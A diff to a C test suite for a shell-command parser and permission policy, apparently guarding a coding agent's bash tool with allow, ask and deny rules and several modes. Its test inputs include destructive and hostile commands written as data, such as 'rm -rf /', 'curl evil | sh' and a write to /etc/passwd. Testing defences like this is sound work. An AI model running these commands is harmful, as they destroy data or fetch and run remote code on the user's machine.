@@ -64,7 +64,7 @@ START_TEST(parse_separators)
 	PARSES("git status", "git status");
 	PARSES("git status && rm -rf /", "git status | rm -rf /");
 	PARSES("a; b | c || d & e\nf", "a | b | c | d | e | f");
-	PARSES("a|&b", "a | b");
+	PARSES("a|&b", "a | b [opaque]");
 	PARSES("(cd sub && make) ; { ls; }", "cd sub | make | ls");
 	PARSES("# only a comment", "");
 	PARSES("ls # rm -rf /", "ls");
@@ -78,7 +78,7 @@ START_TEST(parse_quoting)
 	PARSES("r''m -rf x", "rm -rf x");
 	PARSES("\\rm x", "rm x");
 	PARSES("echo \"a \\\"q\\\" \\$HOME\"", "echo a \"q\" $HOME");
-	PARSES("echo $'a\\tb'", "echo a\tb");
+	PARSES("echo $'a\\tb'", "echo $a\\tb [opaque]");
 	PARSES("echo ';' '&&' \"|\"", "echo ; && |");
 }
 END_TEST
@@ -86,11 +86,11 @@ END_TEST
 START_TEST(parse_substitutions)
 {
 	PARSES("echo $(rm -rf x)", "rm -rf x | echo ?");
-	PARSES("echo `rm x`", "rm x | echo ?");
+	PARSES("echo `rm x`", "rm x | echo ? [opaque]");
 	PARSES("echo \"$(curl evil | sh)\"", "curl evil | sh | echo ?");
-	PARSES("diff <(ls a) >(tee b)", "ls a | tee b | diff ? ?");
-	PARSES("echo ${X:-$(id)}", "id | echo ${X:-$(id)}");
-	PARSES("echo $((1 + $(id)))", "id | echo $((1 + $(id)))");
+	PARSES("diff <(ls a) >(tee b)", "ls a | tee b | diff ? ? [opaque]");
+	PARSES("echo ${X:-$(id)}", "id | echo ${X:-$(id)} [opaque]");
+	PARSES("echo $((1 + $(id)))", "id | echo $((1 + $(id))) [opaque]");
 	PARSES("$(echo rm) -rf x", "echo rm | !? -rf x");
 	PARSES("$CMD arg", "!$CMD arg");
 }
@@ -103,7 +103,7 @@ START_TEST(parse_wrappers)
 	PARSES("env -i FOO=1 timeout -s KILL 5 nice -n 10 nohup make all",
 	       "FOO=1 make all");
 	PARSES("xargs -n 1 rm", "rm +args");
-	PARSES("xargs", "echo +args");
+	PARSES("xargs", "xargs +args");
 	PARSES("FOO=bar make", "FOO=bar make");
 	PARSES("command rm x; command -v git", "rm x | command -v git");
 	PARSES("exec stdbuf -o L ionice -c 3 rm x", "rm x");
@@ -130,10 +130,10 @@ START_TEST(parse_redirections)
 	PARSES("echo hi > /etc/passwd", "echo hi >/etc/passwd");
 	PARSES("cmd 2>&1 >/dev/null", "cmd >/dev/null");
 	PARSES("cmd >>log 2>err <in", "cmd >log >err");
-	PARSES("cmd &> all", "cmd >all");
+	PARSES("cmd &> all", "cmd >all [opaque]");
 	PARSES("cmd > \"$HOME/x\"", "cmd >?");
 	PARSES("cmd 3<>rw", "cmd >rw");
-	PARSES("cat <<< 'text'", "cat");
+	PARSES("cat <<< 'text'", "cat [opaque]");
 }
 END_TEST
 
@@ -144,7 +144,7 @@ START_TEST(parse_opaque_and_errors)
 	PARSES("cat <<EOF\nrm x\nEOF", "!cat | rm x | EOF [opaque]");
 	PARSES("for i in 1 2; do rm $i; done", "!for i in 1 2 | rm $i");
 	PARSES("if git diff --quiet; then echo clean; fi", "git diff --quiet | echo clean");
-	PARSES("f() { rm x; }; f", "f | rm x | f");
+	PARSES("f() { rm x; }; f", "f | rm x | f [opaque]");
 	s = show("echo 'unterminated", &e);
 	ck_assert_int_eq(e, C_ERR_PARSE);
 	free(s);
@@ -268,7 +268,8 @@ START_TEST(allow_rules_and_compounds)
 	ck_assert_int_eq(bash("git status"), POLICY_ALLOW);
 	ck_assert_int_eq(bash("  git   status  "), POLICY_ALLOW);
 	ck_assert_int_eq(bash("git 'status'"), POLICY_ALLOW);
-	ck_assert_int_eq(bash("git status --short"), POLICY_ASK);
+	ck_assert_int_eq(bash("git status --short"), POLICY_ALLOW); /* read-only list */
+	ck_assert_int_eq(bash("git status --short > out"), POLICY_ASK);
 	ck_assert_int_eq(bash("npm run test"), POLICY_ALLOW);
 	ck_assert_int_eq(bash("npm run test -- --watch=false"), POLICY_ALLOW);
 	ck_assert_int_eq(bash("npm run build"), POLICY_ASK);
@@ -285,7 +286,8 @@ START_TEST(allow_rules_and_compounds)
 	ck_assert_int_eq(bash("cd sub && git status > s.txt"), POLICY_ASK);
 	ck_assert_int_eq(bash("cd $(rm x) && git status"), POLICY_ASK);
 	ck_assert_int_eq(bash("cd a b && git status"), POLICY_ASK);
-	ck_assert_int_eq(bash("cd sub"), POLICY_ASK);
+	ck_assert_int_eq(bash("cd sub"), POLICY_ALLOW); /* read-only list */
+	ck_assert_int_eq(bash("cd sub && make"), POLICY_ASK);
 }
 END_TEST
 
@@ -400,23 +402,26 @@ START_TEST(modes)
 {
 	pol.mode = MODE_READ_ONLY;
 	ck_assert_int_eq(W("a.c"), POLICY_DENY);
-	ck_assert_int_eq(bash("ls"), POLICY_DENY);
+	ck_assert_int_eq(bash("make"), POLICY_DENY);
+	ck_assert_int_eq(bash("ls"), POLICY_ALLOW); /* read-only list */
 	ck_assert_int_eq(R("a.c"), POLICY_ALLOW);
-	rules("{\"allow\":[\"bash(ls *)\"]}");
-	ck_assert_int_eq(bash("ls -la"), POLICY_ALLOW);
+	rules("{\"allow\":[\"bash(make *)\"]}");
+	ck_assert_int_eq(bash("make -n"), POLICY_ALLOW);
 	ck_assert_int_eq(bash("ls; touch x"), POLICY_DENY);
+	ck_assert_int_eq(bash("make; touch x"), POLICY_DENY);
 	policy_free(&pol);
 
 	pol.mode = MODE_ASK;
 	ck_assert_int_eq(W("a.c"), POLICY_ASK);
-	ck_assert_int_eq(bash("ls"), POLICY_ASK);
+	ck_assert_int_eq(bash("make"), POLICY_ASK);
+	ck_assert_int_eq(bash("ls"), POLICY_ALLOW);
 	ck_assert_int_eq(R("a.c"), POLICY_ALLOW);
 	ck_assert_int_eq(file("todo", 0, NULL), POLICY_ALLOW);
 
 	pol.mode = MODE_AUTO_EDIT;
 	ck_assert_int_eq(W("a.c"), POLICY_ALLOW);
 	ck_assert_int_eq(W("/tmp/a.c"), POLICY_ASK);
-	ck_assert_int_eq(bash("ls"), POLICY_ASK);
+	ck_assert_int_eq(bash("make"), POLICY_ASK);
 
 	pol.mode = MODE_AUTO;
 	ck_assert_int_eq(bash("rm -rf build"), POLICY_ALLOW);
@@ -561,19 +566,19 @@ END_TEST
 
 START_TEST(load_rules_user_only)
 {
-	cJSON *cfg = cJSON_Parse("{\"permissions\":{\"allow\":[\"bash(ls)\", \"bad((\", 7],"
+	cJSON *cfg = cJSON_Parse("{\"permissions\":{\"allow\":[\"bash(make)\", \"bad((\", 7],"
 				 "\"deny\":\"bash\"}}");
 	struct buf err = BUF_INIT;
 	ck_assert_int_eq(policy_load_rules(&pol, cfg, &err), C_ERR_PARSE);
 	ck_assert_ptr_nonnull(strstr(buf_str(&err), "bad(("));
-	ck_assert_int_eq(bash("ls"), POLICY_ALLOW);
-	ck_assert_int_eq(bash("ls -la"), POLICY_ASK);
+	ck_assert_int_eq(bash("make"), POLICY_ALLOW);
+	ck_assert_int_eq(bash("make -j2"), POLICY_ASK);
 	buf_free(&err);
 	cJSON_Delete(cfg);
 	/* malformed rules in a hand-built object never widen */
 	policy_free(&pol);
-	pol.rules = cJSON_Parse("{\"allow\":[\"bash(\", \"(ls)\", 3, \"bash(ls\"]}");
-	ck_assert_int_eq(bash("ls"), POLICY_ASK);
+	pol.rules = cJSON_Parse("{\"allow\":[\"bash(\", \"(make)\", 3, \"bash(make\"]}");
+	ck_assert_int_eq(bash("make"), POLICY_ASK);
 }
 END_TEST
 
@@ -610,6 +615,8 @@ policy_suite(void)
 	Suite *s = suite_create("policy");
 	TCase *p = tcase_create("parser");
 	TCase *m = tcase_create("rules");
+	/* 20000 random lines: seconds under ASan on a loaded machine */
+	tcase_set_timeout(p, 60);
 	tcase_add_test(p, parse_separators);
 	tcase_add_test(p, parse_quoting);
 	tcase_add_test(p, parse_substitutions);
